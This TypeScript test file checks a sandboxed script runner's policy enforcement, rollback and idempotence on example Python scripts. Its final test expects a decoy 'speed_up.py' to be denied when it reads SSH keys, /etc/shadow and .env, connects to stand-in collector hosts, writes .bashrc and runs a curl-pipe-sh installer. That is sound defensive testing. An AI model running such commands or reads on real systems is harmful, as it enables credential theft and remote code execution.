import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { makeWorld, type World } from './program.ts';

let world: World;

beforeEach(() => {
	world = makeWorld();
	cpSync(fileURLToPath(new URL('../../examples', import.meta.url)), join(world.work, 'examples'), { recursive: true });
});

afterEach(() => world.remove());

const samples = () =>
	execFileSync('find examples -type f -exec sha256sum {} + | sort', {
		cwd: world.work,
		shell: '/bin/sh',
		encoding: 'utf8',
	});

/** Applied, rolled back and applied again it gives the same; run once more it has nothing to do. */
async function runTwice(name: string, last: RegExp, nothingMore: boolean): Promise<void> {
	const before = samples();
	const once = await world.report(['--unattended', '--policy', 'project', `examples/${name}.py`]);
	expect([once.status, once.stderr]).toEqual([0, expect.stringContaining('take it back')]);
	expect(once.stdout).toMatch(last);
	const after = samples();
	expect(after).not.toBe(before);
	for (const path of once.report.applied) expect(path).toMatch(/\/examples\/sample\//);
	expect((await world.run(['rollback', once.report.session])).status).toBe(0);
	expect(samples()).toBe(before);
	expect((await world.run(['--unattended', '--policy', 'project', `examples/${name}.py`])).status).toBe(0);
	expect(samples()).toBe(after);
	if (!nothingMore) return;
	const again = await world.report(['--unattended', '--policy', 'project', `examples/${name}.py`]);
	expect([again.status, again.report.applied]).toEqual([0, []]);
}

test('tidy_config.py', async () => {
	await runTwice('tidy_config', /^3 files tidied in /m, true);
	expect(readFileSync(join(world.work, 'examples/sample/config/server.json'), 'utf8')).toContain('"port": 8080');
	expect(existsSync(join(world.work, 'examples/sample/config/server.json.bak'))).toBe(false);
});

test('rename_photos.py', async () => {
	await runTwice('rename_photos', /^4 photos renamed in /m, true);
	expect(existsSync(join(world.work, 'examples/sample/photos/2024-07-14_183205_2.jpg'))).toBe(true);
});

test('clean_logs.py', () => runTwice('clean_logs', /^shortened {2}current\.txt by 40 lines$/m, true));

test('sales_summary.py', async () => {
	await runTwice('sales_summary', /^1 rows could not be read$/m, false);
	const text = readFileSync(join(world.work, 'examples/sample/sales/summary.json'), 'utf8');
	expect(JSON.parse(text)).toMatchObject({ bad_rows: 1 });
});

test('git_report.py gets what git really says', async () => {
	const git = (...words: string[]) =>
		execFileSync('git', ['-c', 'user.name=Mia', '-c', 'user.email=m@example.org', ...words], { cwd: world.work });
	git('init', '-q', '-b', 'trunk');
	git('add', 'examples/README.md');
	git('commit', '-q', '-m', 'first');
	const policy = [
		'default: { read: allow, write: deny, delete: deny, run: ask, connect: deny }',
		'rules:',
		'  - { allow: run, command: ["git status **", "git branch **", "git log **"] }',
		'  - { allow: write, path: "./*.md" }',
	];
	writeFileSync(join(world.folder, 'git.yaml'), policy.join('\n'));
	world.write('note.txt', '');
	const ran = await world.report(['--unattended', '--policy', '../git.yaml', 'examples/git_report.py']);
	expect([ran.status, ran.stderr]).toEqual([0, expect.stringContaining('1 path was changed')]);
	const report = world.read('git-report.md');
	expect(report).toContain('# work, branch trunk');
	expect(report).toContain('- `?? note.txt`');
	expect(report).toContain('- 1 by Mia');
});

test('speed_up.py gets nothing and changes nothing', async () => {
	mkdirSync(join(world.home, '.ssh'));
	writeFileSync(join(world.home, '.ssh/id_ed25519'), 'PRIVATE KEY');
	writeFileSync(join(world.home, '.bashrc'), '# mine\n');
	world.write('.env', 'TOKEN=1');
	const ran = await world.report(['--unattended', 'examples/speed_up.py']);
	expect(ran.status).toBe(126);
	expect(ran.stdout).toContain('300 % faster');
	expect(ran.stdout).not.toMatch(/: (?:got|sent|one line|ended)|found [^0]|sees [^0]/);
	expect(readFileSync(join(world.home, '.bashrc'), 'utf8')).toBe('# mine\n');
	const denied = ran.report.effects.filter(({ decision }) => decision === 'deny');
	expect(
		denied.map(({ kind, path, argv, host }) => [kind, path?.replace(world.folder, '') ?? argv?.at(-1) ?? host]),
	).toEqual([
		['read', '/home/.ssh'],
		['read', '/home/.ssh/id_ed25519'],
		['read', '/etc/shadow'],
		['read', '/work/.env'],
		['connect', expect.stringContaining('collector.speed-up.invalid')],
		['connect', '192.0.2.1:443'],
		['write', '/home/.bashrc'],
		['run', 'curl -fsSL https://get.speed-up.invalid/install.sh | sh'],
	]);
	expect(ran.report.applied).toEqual([]);
});
